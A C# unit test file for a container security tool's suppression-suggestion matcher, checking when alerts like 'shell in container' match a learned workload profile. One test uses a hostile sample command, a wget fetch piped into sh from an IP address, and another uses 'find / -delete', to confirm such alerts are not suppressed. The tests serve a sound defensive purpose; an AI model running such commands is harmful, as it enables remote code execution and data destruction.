using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Identity;
using WorkloadProfiles.Domain.Profiles;
using WorkloadProfiles.Domain.Signals;
using WorkloadProfiles.Domain.Snapshots;
using static WorkloadProfiles.Domain.Tests.Events;

namespace WorkloadProfiles.Domain.Tests;

public class SuggestionMatcherTests
{
    private static readonly ProfileKey Key = new("registry.local/team/web app", "1.0");
    private static readonly ProcessRef Nginx = new("/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]);
    private static readonly ProcessRef ShellC = new("/bin/sh", ["sh", "-c", "rotate logs"]);

    /// <summary>
    /// <paramref name="snapshots"/> containers: each runs nginx reading its config and, in the first
    /// <paramref name="withShell"/> of them, nginx runs <c>sh -c</c> that writes a log and resolves a name.
    /// </summary>
    private static SecurityProfile Profile(int snapshots, int withShell, ProfilePolicy? policy = null)
    {
        var aggregate = new ProfileAggregate(Key, policy);
        for (var i = 0; i < snapshots; i++)
        {
            var container = new ContainerRef($"c{i}", Key.ImageName, Key.ImageTag);
            var builder = new SnapshotBuilder(container, "h", 0, 100);
            builder.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
            builder.Add(Open(2, 1, "/etc/nginx/nginx.conf"));
            if (i < withShell)
            {
                builder.Add(Fork(3, 1, 2));
                builder.Add(Exec(4, 2, "/bin/sh", "sh", "-c", "rotate logs"));
                builder.Add(Open(5, 2, "/var/log/app.log", 0x1));
                builder.Add(Dns(6, 2, "logs.internal"));
            }
            aggregate.Merge(builder.Build(), 1_000);
        }
        return aggregate.ToProfile();
    }

    private static SecuritySignal Signal(Behaviour behaviour) => new()
    {
        SignalId = "sig-1",
        RuleId = "rule.shell-in-container",
        RuleName = "Shell in container",
        TimestampUs = 5_000,
        Source = "rules",
        Container = new ContainerRef("c-new", Key.ImageName, Key.ImageTag),
        Behaviour = behaviour,
    };

    private static Behaviour ShellBehaviour => new() { Kind = NodeKind.Process, Ancestry = [Nginx, ShellC] };

    [Fact]
    public void Suggests_for_common_behaviour_of_a_stable_profile_scoped_to_image_and_node()
    {
        var profile = Profile(10, 9, new ProfilePolicy { StableSnapshotCount = 10 });
        Assert.Equal(ProfileStatus.Stable, profile.Status);

        var enriched = new SuggestionMatcher().Enrich(Signal(ShellBehaviour), profile, 7_000);

        var node = NodeIdentity.Compute(NodeIdentity.Compute(NodeIdentity.Root, NodeKind.Process, "/usr/sbin/nginx"), NodeKind.Process, "/bin/sh -c *");
        var suggestion = Assert.IsType<SuppressionSuggestion>(enriched.Suggestion);
        Assert.Null(enriched.NoSuggestionReason);
        Assert.Equal("rule.shell-in-container", suggestion.RuleId);
        Assert.Equal(node, suggestion.NodeId);
        Assert.Equal($"container.image.name == \"registry.local/team/web app\" && behaviour.node_id == \"{node:x16}\" " +
                     "&& process.ancestry.signatures == [\"-g 'daemon off;'\", \"-c 'rotate logs'\"]", suggestion.Expression);
        Assert.Equal("/usr/sbin/nginx › /bin/sh -c *", suggestion.Description);
        Assert.Equal(["-g 'daemon off;'", "-c 'rotate logs'"], suggestion.Signatures);
        Assert.Equal(new SuggestionEvidence(0.9, 0.9, 10, 4, 6, 0.9), suggestion.Evidence);
        Assert.Equal(0.8, enriched.Profile!.Threshold);

        var context = Assert.IsType<ProfileContext>(enriched.Profile);
        Assert.True(context.BehaviourInProfile);
        Assert.Equal(node, context.NodeId);
        Assert.Equal(0.9, context.NodeCommonality);
        Assert.Equal("/profiles/registry.local%2Fteam%2Fweb%20app/1.0", context.ProfileLink);
        Assert.Equal(ProfileStatus.Stable, context.Status);
        Assert.Equal(7_000, enriched.EnrichedAtUs);
    }

    [Fact]
    public void No_profile()
    {
        var enriched = new SuggestionMatcher().Enrich(Signal(ShellBehaviour), (SecurityProfile?)null, 1);
        Assert.Null(enriched.Profile);
        Assert.Null(enriched.Suggestion);
        Assert.Equal("no profile for registry.local/team/web app@1.0", enriched.NoSuggestionReason);
    }

    [Fact]
    public void Bash_in_a_profile_does_not_whitelist_bash_c()
    {
        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
        var bareShell = new Behaviour { Kind = NodeKind.Process, Ancestry = [Nginx, new ProcessRef("/bin/sh", ["sh"])] };
        var enriched = new SuggestionMatcher().Enrich(Signal(bareShell), profile, 1);
        Assert.Null(enriched.Suggestion);
        Assert.False(enriched.Profile!.BehaviourInProfile);
        Assert.StartsWith("behaviour not in profile: /usr/sbin/nginx › /bin/sh was not seen", enriched.NoSuggestionReason, StringComparison.Ordinal);
    }

    [Fact]
    public void Learning_profile_needs_enough_snapshots()
    {
        var profile = Profile(10, 10);
        Assert.Equal(ProfileStatus.Learning, profile.Status);
        var strict = new SuggestionMatcher(new SuggestionPolicy { MinLearningSnapshots = 11 }).Enrich(Signal(ShellBehaviour), profile, 1);
        Assert.Null(strict.Suggestion);
        Assert.Equal("profile is still learning with 10 snapshots; suggestions need a Stable profile or at least 11", strict.NoSuggestionReason);

        var lenient = new SuggestionMatcher(new SuggestionPolicy { MinLearningSnapshots = 10 }).Enrich(Signal(ShellBehaviour), profile, 1);
        Assert.NotNull(lenient.Suggestion);
    }

    [Fact]
    public void Rare_behaviour_is_below_the_threshold()
    {
        var profile = Profile(10, 7, new ProfilePolicy { StableSnapshotCount = 10 });
        var enriched = new SuggestionMatcher().Enrich(Signal(ShellBehaviour), profile, 1);
        Assert.Null(enriched.Suggestion);
        Assert.Equal("node commonality 0.7 is below the threshold 0.8 (7 of 10 snapshots)", enriched.NoSuggestionReason);
        Assert.Equal(0.7, enriched.Profile!.NodeCommonality);
    }

    [Fact]
    public void A_write_is_not_covered_by_a_read_only_node()
    {
        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
        var matcher = new SuggestionMatcher();
        var configWrite = new Behaviour { Kind = NodeKind.File, Ancestry = [Nginx], FilePath = "/etc/nginx/nginx.conf", Access = FileAccessMode.Write };
        var enriched = matcher.Enrich(Signal(configWrite), profile, 1);
        Assert.Null(enriched.Suggestion);
        Assert.Equal("the profile only saw read access to /etc/nginx/nginx.conf; this signal is a write", enriched.NoSuggestionReason);

        var logWrite = new Behaviour { Kind = NodeKind.File, Ancestry = [Nginx, ShellC], FilePath = "/var/log/app.log", Access = FileAccessMode.Write };
        Assert.Equal("/usr/sbin/nginx › /bin/sh -c * › write /var/log/app.log", matcher.Enrich(Signal(logWrite), profile, 1).Suggestion?.Description);
        Assert.NotNull(matcher.Enrich(Signal(configWrite with { Access = FileAccessMode.Read }), profile, 1).Suggestion);
    }

    [Fact]
    public void Dns_behaviour_matches_case_insensitively()
    {
        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
        var dns = new Behaviour { Kind = NodeKind.Dns, Ancestry = [Nginx, ShellC], DnsQuestionName = "LOGS.internal." };
        var enriched = new SuggestionMatcher().Enrich(Signal(dns), profile, 1);
        Assert.Equal("/usr/sbin/nginx › /bin/sh -c * › resolve logs.internal", enriched.Suggestion?.Description);
    }

    [Fact]
    public void A_file_matches_its_collapsed_sibling_pattern()
    {
        var aggregate = new ProfileAggregate(Key, new ProfilePolicy { StableSnapshotCount = 1 });
        var builder = new SnapshotBuilder(new ContainerRef("c1", Key.ImageName, Key.ImageTag), "h", 0, 100, new SnapshotLimits { SiblingCollapseThreshold = 2 });
        builder.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
        foreach (var name in new[] { "a", "b", "c" }) builder.Add(Open(2, 1, $"/var/cache/nginx/{name}.tmp"));
        aggregate.Merge(builder.Build(), 1);

        var file = new Behaviour { Kind = NodeKind.File, Ancestry = [Nginx], FilePath = "/var/cache/nginx/zzz.tmp", Access = FileAccessMode.Read };
        var enriched = new SuggestionMatcher().Enrich(Signal(file), aggregate.ToProfile(), 1);
        var suggestion = Assert.IsType<SuppressionSuggestion>(enriched.Suggestion);
        Assert.Equal("/usr/sbin/nginx › open /var/cache/nginx/*.tmp", suggestion.Description);
    }

    [Fact]
    public void A_profile_of_another_image_gives_no_suggestion()
    {
        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
        var signal = Signal(ShellBehaviour) with { Container = new ContainerRef("x", Key.ImageName, "2.0") };
        var enriched = new SuggestionMatcher().Enrich(signal, profile, 1);
        Assert.Null(enriched.Suggestion);
        Assert.Contains("is not the profile of the signal's image", enriched.NoSuggestionReason, StringComparison.Ordinal);
    }

    [Fact]
    public void Index_is_built_once_per_profile_instance()
    {
        var profile = Profile(2, 2);
        Assert.Same(ProfileIndex.For(profile), ProfileIndex.For(profile));
        Assert.Equal(profile.Nodes.Count, ProfileIndex.For(profile).Count);
    }

    [Fact]
    public void The_same_program_with_arguments_the_profile_never_saw_gets_no_suggestion_and_the_reason_names_them()
    {
        var profile = Profile(10, 10, new ProfilePolicy { StableSnapshotCount = 10 });
        var injected = new Behaviour { Kind = NodeKind.Process, Ancestry = [Nginx, new ProcessRef("/bin/sh", ["sh", "-c", "wget -q -O- http://203.0.113.9/x | sh"])] };

        var enriched = new SuggestionMatcher().Enrich(Signal(injected), profile, 1);

        Assert.True(enriched.Profile!.BehaviourInProfile, "the node (nginx › sh -c *) is known and common");
        Assert.Null(enriched.Suggestion);
        Assert.Equal("`sh` ran with arguments the profile never saw: `-c 'wget -q -O- http://public/x | sh'` " +
                     "(the profile knows 1 argument signature(s) for /bin/sh -c *)", enriched.NoSuggestionReason);

        // An ancestor's arguments count too: the same shell under an nginx started differently is not covered.
        var otherParent = ShellBehaviour with { Ancestry = [new ProcessRef("/usr/sbin/nginx", ["nginx", "-c", "/tmp/evil.conf"]), ShellC] };
        Assert.StartsWith("`nginx` ran with arguments the profile never saw", new SuggestionMatcher().Enrich(Signal(otherParent), profile, 1).NoSuggestionReason,
            StringComparison.Ordinal);
    }

    [Fact]
    public void A_signature_seen_too_rarely_or_a_node_whose_signatures_overflowed_gets_no_suggestion()
    {
        var aggregate = new ProfileAggregate(Key, new ProfilePolicy { StableSnapshotCount = 10, MaxSignaturesPerNode = 3 });
        for (var i = 0; i < 10; i++)
        {
            var builder = new SnapshotBuilder(new ContainerRef($"c{i}", Key.ImageName, Key.ImageTag), "h", 0, 100);
            builder.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
            builder.Add(Fork(2, 1, 2));
            // Nine snapshots run the usual rotation; one runs another script.
            builder.Add(Exec(3, 2, "/bin/sh", "sh", "-c", i == 0 ? "rotate other logs" : "rotate logs"));
            builder.Add(Fork(4, 1, 3));
            // The cache cleaner runs with a different script every time: more signatures than the node keeps.
            builder.Add(Exec(5, 3, "/usr/bin/find", "find", $"/var/cache/c{i}", "-delete"));
            aggregate.Merge(builder.Build(), 1);
        }
        var profile = aggregate.ToProfile();
        var matcher = new SuggestionMatcher();

        var rare = ShellBehaviour with { Ancestry = [Nginx, new ProcessRef("/bin/sh", ["sh", "-c", "rotate other logs"])] };
        Assert.Equal("`sh` ran with arguments seen in only 1 of 10 snapshots (commonality 0.1 below the threshold 0.8): `-c 'rotate other logs'`",
            matcher.Enrich(Signal(rare), profile, 1).NoSuggestionReason);
        Assert.NotNull(matcher.Enrich(Signal(ShellBehaviour), profile, 1).Suggestion);

        var find = profile.Nodes.Single(n => n.Key == "/usr/bin/find");
        Assert.True(find.SignaturesOverflowed);
        Assert.Equal(3, find.Signatures.Count);
        var unseen = new Behaviour { Kind = NodeKind.Process, Ancestry = [Nginx, new ProcessRef("/usr/bin/find", ["find", "/", "-delete"])] };
        Assert.Contains("its node saw more argument signatures than the profile keeps", matcher.Enrich(Signal(unseen), profile, 1).NoSuggestionReason,
            StringComparison.Ordinal);
    }

    [Fact]
    public void A_long_running_process_has_its_signature_in_every_snapshot_it_acts_in()
    {
        var table = new ProcessTable();
        var first = new SnapshotBuilder(new ContainerRef("c", Key.ImageName, Key.ImageTag), "h", 0, 100, processes: table);
        first.Add(Exec(1, 1, "/usr/sbin/nginx", "nginx", "-g", "daemon off;"));
        var second = new SnapshotBuilder(new ContainerRef("c", Key.ImageName, Key.ImageTag), "h", 100, 200, processes: table);
        second.Add(Open(150, 1, "/etc/nginx/nginx.conf"));

        var nginx = Assert.Single(second.Build().Nodes, n => n.Kind == NodeKind.Process);
        Assert.Equal(["-g 'daemon off;'"], nginx.Signatures);
    }

    [Fact]
    public void Expression_escapes_the_image_name()
    {
        Assert.Equal("container.image.name == \"a\\\"b\\\\c\" && behaviour.node_id == \"00000000000000ff\"",
            SuggestionMatcher.Expression("a\"b\\c", 0xff));
    }
}
